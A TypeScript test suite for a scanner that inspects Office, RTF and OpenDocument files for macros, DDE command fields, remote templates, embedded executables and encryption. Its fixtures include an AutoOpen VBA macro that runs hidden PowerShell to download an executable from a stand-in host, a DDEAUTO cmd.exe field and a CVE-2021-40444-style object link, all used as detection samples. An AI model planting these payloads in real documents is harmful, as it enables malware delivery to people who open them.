import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { makeZip } from '../../test/helpers/archive-files.ts';
import {
  classKey,
  compressVba,
  macroProject,
  makeOle,
  nativeStream,
  type Storage,
} from '../../test/helpers/office-files.ts';
import type { FileView, OfficeView, Part } from '../core/index.ts';
import { OleFile } from './ole.ts';
import { decompressVba } from './vba.ts';
import { fileViews } from './views.ts';

function view(bytes: Buffer): FileView {
  return fileViews()({ kind: 'other', fileName: 'file', decoded: () => bytes } as unknown as Part);
}

/** What differs from a document that does nothing. */
function findings(bytes: Buffer): Partial<OfficeView> | undefined {
  const { office } = view(bytes);
  if (!office) return undefined;
  const isFound = ([key, value]: [string, unknown]): boolean =>
    key !== 'format' &&
    value !== undefined &&
    value !== false &&
    value !== 0 &&
    !(Array.isArray(value) && value.length === 0);
  return Object.fromEntries(Object.entries(office).filter(isFound)) as Partial<OfficeView>;
}

const word = (encrypted = false): Buffer => {
  const stream = Buffer.alloc(64);
  stream.writeUInt16LE(0xa5ec);
  stream.writeUInt16LE(encrypted ? 0x0100 : 0, 10);
  return stream;
};
const biff = (...records: readonly (readonly [type: number, data: Buffer])[]): Buffer =>
  Buffer.concat(
    records.map(([type, data]) => {
      const head = Buffer.alloc(4);
      head.writeUInt16LE(type);
      head.writeUInt16LE(data.length, 2);
      return Buffer.concat([head, data]);
    }),
  );

const downloader = [
  'Sub AutoOpen()',
  '  Set x = CreateObject("WScript.Shell")',
  '  x.Run "powershell -w hidden -c iwr https://load.example.com/a.exe"',
  'End Sub',
].join('\r\n');

const oleTable: readonly (readonly [string, Storage, Partial<OfficeView>])[] = [
  ['a document without anything', { WordDocument: word() }, {}],
  [
    'macros that load a program',
    { WordDocument: word(), Macros: macroProject(downloader) },
    {
      macros: {
        modules: 1,
        startsOn: ['autoopen'],
        reaches: ['createobject', 'wscript.shell', 'powershell'],
      },
      links: ['https://load.example.com/a.exe'],
    },
  ],
  [
    'macros that wait to be called',
    { Workbook: biff(), _VBA_PROJECT_CUR: macroProject('Sub Format_Cells()\r\nEnd Sub') },
    { macros: { modules: 1, startsOn: [], reaches: [] } },
  ],
  ['an encrypted Word document', { WordDocument: word(true) }, { isEncrypted: true }],
  [
    'an encrypted workbook',
    { Workbook: biff([0x809, Buffer.alloc(8)], [0x2f, Buffer.alloc(6)]) },
    { isEncrypted: true },
  ],
  [
    'an encrypted document of today',
    { EncryptionInfo: Buffer.alloc(8), EncryptedPackage: Buffer.alloc(5_000) },
    { isEncrypted: true },
  ],
  [
    'a sheet of macros',
    { Workbook: biff([0x85, Buffer.from([0, 0, 0, 0, 0, 1, 1, 0, 0x41])]) },
    { macroSheets: 1 },
  ],
  [
    'a link in a formula',
    { Workbook: biff([6, Buffer.from('\x17\x18\0https://x.example.com/abcxyz', 'latin1')]) },
    { links: ['https://x.example.com/ab'] },
  ],
  [
    'a link of a cell',
    { Workbook: biff([0x1b8, Buffer.from('https://cell.example.com/a b', 'utf16le')]) },
    { links: ['https://cell.example.com/a'] },
  ],
  [
    'a program in a document',
    {
      WordDocument: word(),
      ObjectPool: { _1: { '\u0001Ole10Native': nativeStream('invoice.pdf.exe', 'MZ') } },
    },
    { files: ['invoice.pdf.exe'], programs: ['invoice.pdf.exe'] },
  ],
  [
    'a program that is called otherwise',
    { WordDocument: word(), ObjectPool: { _1: { '\u0001Ole10Native': nativeStream('a.txt', 'MZ\x90') } } },
    { files: ['a.txt'], programs: ['a.txt'] },
  ],
  [
    'a formula of the old editor',
    { WordDocument: word(), ObjectPool: { _1: { [classKey]: '02ce020000000000c000000000000046' } } },
    { hasEquation: true },
  ],
  [
    'a field that starts a program',
    {
      WordDocument: Buffer.concat([word(), Buffer.from('\x13 DDEAUTO c:\\\\windows\\\\cmd.exe "/k x" \x14')]),
    },
    { hasCommandField: true },
  ],
  [
    'a field with a link',
    { WordDocument: Buffer.concat([word(), Buffer.from('\x13 HYPERLINK "https://doc.example.com/" \x14')]) },
    { links: ['https://doc.example.com/'] },
  ],
];
for (const [name, storage, expected] of oleTable) {
  test(`a compound file: ${name}`, () => assert.deepEqual(findings(makeOle(storage)), expected));
}

test('streams of all sizes are read from their chains', () => {
  for (const size of [0, 1, 63, 64, 65, 4_095, 4_096, 4_097, 70_000]) {
    const content = Buffer.from(Array.from({ length: size }, (_, i) => i % 251));
    const ole = new OleFile(makeOle({ folder: { other: Buffer.alloc(100), stream: content } }));
    const entry = ole.find(/^folder\/stream$/);
    assert.ok(entry);
    assert.ok(ole.read(entry, 1_000_000).equals(content));
    assert.equal(ole.read(entry, 10).length, Math.min(size, 10));
  }
});

test('what MS-OVBA compresses comes back', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom('a', 'ab', 'Sub ', '\r\n', 'x'.repeat(50), 'é'), { maxLength: 3_000 }),
      (words) => {
        const text = words.join('');
        assert.equal(decompressVba(compressVba(text), 1_000_000).toString('latin1'), text);
      },
    ),
    { numRuns: 100 },
  );
});

const relation = (type: string, target: string, mode = 'External'): string =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`;
const relations = (...each: readonly string[]): string => `<Relationships>${each.join('')}</Relationships>`;
const docx = (parts: Readonly<Record<string, string | Buffer>>): Buffer =>
  makeZip(
    Object.entries({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...parts }).map(
      ([name, content]) => ({ name, content }),
    ),
  );

const packageTable: readonly (readonly [
  string,
  Readonly<Record<string, string | Buffer>>,
  Partial<OfficeView>,
])[] = [
  ['nothing else', {}, {}],
  [
    'a template from the Internet',
    {
      'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'https://t.example.com/x.dotm')),
    },
    { templates: ['https://t.example.com/x.dotm'], links: ['https://t.example.com/x.dotm'] },
  ],
  [
    'a template of the own network',
    {
      'word/_rels/settings.xml.rels': relations(
        relation('attachedTemplate', 'file:///\\\\server\\share\\firm.dotm'),
        relation('attachedTemplate', 'file:///C:\\x\\Normal.dotm'),
      ),
    },
    {},
  ],
  [
    'a template by WebDAV',
    {
      'word/_rels/settings.xml.rels': relations(
        relation('attachedTemplate', '\\\\h.example.com@SSL\\x\\y.dotm'),
      ),
    },
    { templates: ['\\\\h.example.com@SSL\\x\\y.dotm'] },
  ],
  [
    'an object from the Internet (CVE-2021-40444)',
    {
      'word/_rels/document.xml.rels': relations(
        relation('oleObject', 'mhtml:https://o.example.com/a.html!x-usc:https://o.example.com/a.html'),
      ),
    },
    {
      externalObjects: ['mhtml:https://o.example.com/a.html!x-usc:https://o.example.com/a.html'],
      links: ['https://o.example.com/a.html'],
    },
  ],
  [
    'links and what stays inside',
    {
      'word/_rels/document.xml.rels': relations(
        relation('hyperlink', 'https://a.example.com/?x=1&amp;y=2'),
        relation('hyperlink', 'mailto:a@example.com'),
        relation('image', 'media/1.png', 'Internal'),
      ),
    },
    { links: ['https://a.example.com/?x=1&y=2'] },
  ],
  [
    'macros',
    { 'word/vbaProject.bin': makeOle(macroProject(downloader)) },
    {
      macros: {
        modules: 1,
        startsOn: ['autoopen'],
        reaches: ['createobject', 'wscript.shell', 'powershell'],
      },
      links: ['https://load.example.com/a.exe'],
    },
  ],
  [
    'macros that cannot be read',
    { 'word/vbaProject.bin': 'broken' },
    { macros: { modules: 0, startsOn: [], reaches: [] } },
  ],
  ['Excel 4.0 macros', { 'xl/macrosheets/sheet1.xml': '<x/>' }, { macroSheets: 1 }],
  [
    'a program in an object',
    { 'word/embeddings/oleObject1.bin': makeOle({ '\u0001Ole10Native': nativeStream('a.js', 'x') }) },
    { files: ['a.js'], programs: ['a.js'] },
  ],
  ['a workbook in a report', { 'word/embeddings/Sheet1.xlsx': 'PK' }, { files: ['Sheet1.xlsx'] }],
  [
    'a field over several runs',
    {
      'word/document.xml':
        '<w:document><w:instrText>DDE</w:instrText><w:r/><w:instrText xml:space="preserve">AUTO c:\\x</w:instrText></w:document>',
    },
    { hasCommandField: true },
  ],
  [
    'a link to another program',
    {
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>',
    },
    { hasCommandField: true },
  ],
];
for (const [name, parts, expected] of packageTable) {
  test(`a document since 2007: ${name}`, () => assert.deepEqual(findings(docx(parts)), expected));
}

test('an archive that is no document has no office view', () => {
  assert.equal(findings(makeZip([{ name: 'a.txt', content: 'x' }])), undefined);
});

const odt = (parts: Readonly<Record<string, string>>): Buffer =>
  makeZip(
    Object.entries({ mimetype: 'application/vnd.oasis.opendocument.text', ...parts }).map(
      ([name, content]) => ({
        name,
        content,
      }),
    ),
  );

test('Open Documents: macros, encryption, links', () => {
  assert.deepEqual(findings(odt({ 'content.xml': '<a xlink:href="https://o.example.com/?a&amp;b"/>' })), {
    links: ['https://o.example.com/?a&b'],
  });
  const macros = { 'Basic/Standard/Module1.xml': 'x', 'Basic/Standard/script-lb.xml': 'x' };
  assert.deepEqual(findings(odt(macros)), { macros: { modules: 1, startsOn: [], reaches: [] } });
  assert.deepEqual(findings(odt({ ...macros, 'content.xml': '<x script:event-name="dom:load"/>' })), {
    macros: { modules: 1, startsOn: ['load'], reaches: [] },
  });
  assert.deepEqual(findings(odt({ 'META-INF/manifest.xml': '<manifest:encryption-data x/>' })), {
    isEncrypted: true,
  });
});

const hex = (bytes: Buffer): string => bytes.toString('hex');
const rtfObject = (name: string, data: Buffer): Buffer => {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(name.length + 1);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(data.length);
  return Buffer.concat([
    Buffer.from('0105000002000000', 'hex'),
    size,
    Buffer.from(`${name}\0`),
    Buffer.alloc(8),
    length,
    data,
  ]);
};
const rtfTable: readonly (readonly [string, string, Partial<OfficeView>])[] = [
  ['text', '{\\rtf1 Hello}', {}],
  [
    'a link',
    '{\\rtf1{\\field{\\*\\fldinst{\\rtlch HYPERLINK "https://r.example.com/x"}}{\\fldrslt x}}}',
    { links: ['https://r.example.com/x'] },
  ],
  [
    'a template from the Internet',
    '{\\rtf1{\\*\\template https://t.example.com/a.dotm}}',
    { templates: ['https://t.example.com/a.dotm'], links: ['https://t.example.com/a.dotm'] },
  ],
  [
    'a template that is written in character codes',
    "{\\rtf1{\\*\\template \\'68ttps://t.example.com/a}}",
    { templates: ['https://t.example.com/a'], links: ['https://t.example.com/a'] },
  ],
  [
    'an equation',
    `{\\rt{\\object\\objautlink\\objupdate{\\*\\objdata ${hex(rtfObject('Equation.3', Buffer.from('x')))}}}}`,
    { hasEquation: true, updatesObjects: true, files: [''] },
  ],
  [
    'digits between groups and control words',
    `{\\rtf1{\\object{\\*\\objdata ${hex(rtfObject('Equation.3', Buffer.from('x'))).replaceAll(/(.{9})/g, "$1{\\x}\\'41\r\n")}}}}`,
    { hasEquation: true, files: [''] },
  ],
  [
    'a program in a package',
    `{\\rtf1{\\object\\objemb{\\*\\objdata ${hex(rtfObject('Package', nativeStream('run.exe', 'MZ').subarray(4)))}}}}`,
    { files: ['run.exe'], programs: ['run.exe'] },
  ],
  [
    'a compound file',
    `{\\rtf1{\\*\\objdata ${hex(makeOle({ '\u0001Ole10Native': nativeStream('a.vbs', 'x') }))}}}`,
    { files: ['a.vbs'], programs: ['a.vbs'] },
  ],
];
for (const [name, text, expected] of rtfTable) {
  test(`RTF: ${name}`, () => assert.deepEqual(findings(Buffer.from(text, 'latin1')), expected));
}

const samples = [
  makeOle({
    WordDocument: word(),
    Macros: macroProject(downloader),
    Pool: { '\u0001Ole10Native': nativeStream('a', 'b') },
  }),
  docx({
    'word/_rels/a.rels': relations(relation('hyperlink', 'https://a.example.com/')),
    'word/vbaProject.bin': makeOle(macroProject(downloader)),
  }),
  ...rtfTable.map(([, text]) => Buffer.from(text, 'latin1')),
];
test('documents that were cut short or changed are read without failing', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...samples),
      fc.double({ min: 0, max: 1, noNaN: true }),
      fc.array(
        fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.constantFrom(0, 1, 0x7f, 0xfe, 0xff)),
        {
          maxLength: 20,
        },
      ),
      (sample, kept, changes) => {
        const bytes = Buffer.from(sample.subarray(0, Math.ceil(sample.length * kept)));
        for (const [place, value] of changes)
          if (bytes.length > 0) bytes[Math.floor(place * bytes.length)] = value;
        const { office } = view(bytes);
        assert.ok(office === undefined || Array.isArray(office.links));
      },
    ),
    { numRuns: 400 },
  );
});

test('chains that bite their own tail end', () => {
  const file = makeOle({ WordDocument: Buffer.alloc(20_000), Macros: macroProject(downloader) });
  // Every entry of the table leads to sector 0.
  const table = file.length - 512;
  for (let at = table; at < file.length; at += 4) file.writeUInt32LE(0, at);
  assert.ok(view(file).office);
});

test('macros that are copies of themselves without end are cut', () => {
  const bomb = compressVba('x'.repeat(4_096 * 200));
  assert.equal(decompressVba(bomb, 10_000).length, 10_000);
});

for (const [name, opening] of [
  ['objects', '\\objdata '],
  ['objects with digits', '{\\*\\objdata 01'],
  ['binary data', '\\objdata \\bin1 '],
  ['fields', '\\fldinst '],
  ['templates', '{\\*\\template x'],
] as const) {
  test(`${name} of RTF that are opened again and again come to an end, which is told where work was left out`, () => {
    const found = findings(Buffer.from(`{\\rtf1${opening.repeat(300_000)}`, 'latin1'));
    assert.equal(found?.isCut ?? false, name !== 'templates');
  });
}

for (const [name, member, opening] of [
  ['relationships', 'a.rels', '<Relationship '],
  ['fields', 'word/document.xml', '<w:instrText '],
  ['links to programs', 'xl/externalLinks/a.xml', '<ddeLink '],
] as const) {
  test(`${name} of a package that are opened again and again come to an end`, () => {
    assert.deepEqual(findings(docx({ [member]: opening.repeat(60_000) })), {});
  });
}

test('a stream that begins like links everywhere is read in part', () => {
  const stream = Buffer.from('https://'.repeat(20_000), 'utf16le');
  assert.equal(findings(makeOle({ Workbook: stream }))?.isCut, true);
});
